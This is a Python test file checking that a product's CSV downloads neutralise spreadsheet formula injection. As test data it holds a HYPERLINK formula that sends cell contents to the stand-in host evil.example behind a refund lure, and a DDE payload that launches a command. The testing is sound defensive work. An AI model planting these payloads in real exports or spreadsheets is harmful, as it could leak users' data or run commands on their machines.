"""Finding 2: every CSV the product emits neutralises spreadsheet formulas the same way."""

from __future__ import annotations

import csv
import io
from typing import Any

from sqlalchemy import select

from smartinbox.analytics.tasks import run_rebuild
from smartinbox.kit.csvout import cell, to_text
from smartinbox.models import Analysis, Message
from tests.analytics.conftest import PERIOD
from tests.analytics.fixture import World

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")'


def test_cell_neutralises_every_formula_start_but_keeps_numbers() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert cell(start + "1+1") == "'" + start + "1+1"
    assert cell(-3) == "-3" and cell(0.5) == "0.5" and cell(None) == ""
    assert cell("plain") == "plain"
    rows = list(csv.reader(io.StringIO(to_text(["a"], [[EVIL]]))))
    assert rows == [["a"], ["'" + EVIL]]


def test_dashboard_downloads_neutralise_customer_text_and_topics(
    env: Any, world: World, client: Any, agent: Any
) -> None:
    with env.session() as s:
        s.get(Message, world.messages["m2"]).body = EVIL  # type: ignore[union-attr]
        for analysis in s.scalars(select(Analysis).where(Analysis.topic == "billing")):
            analysis.topic = "=1+cmd|' /C calc'!A0"
    run_rebuild(env.settings)
    rejected = client.get(
        "/api/feedback/analytics/rejected.csv", params=PERIOD, headers=agent.headers
    )
    assert rejected.status_code == 200, rejected.text
    cells = [c for row in csv.reader(io.StringIO(rejected.text)) for c in row]
    assert "'" + EVIL in cells
    assert not any(c.startswith("=") for c in cells)
    topics = client.get("/api/insights/complaints.csv", params=PERIOD, headers=agent.headers)
    assert topics.status_code == 200, topics.text
    cells = [c for row in csv.reader(io.StringIO(topics.text)) for c in row]
    assert "'=1+cmd|' /C calc'!A0" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
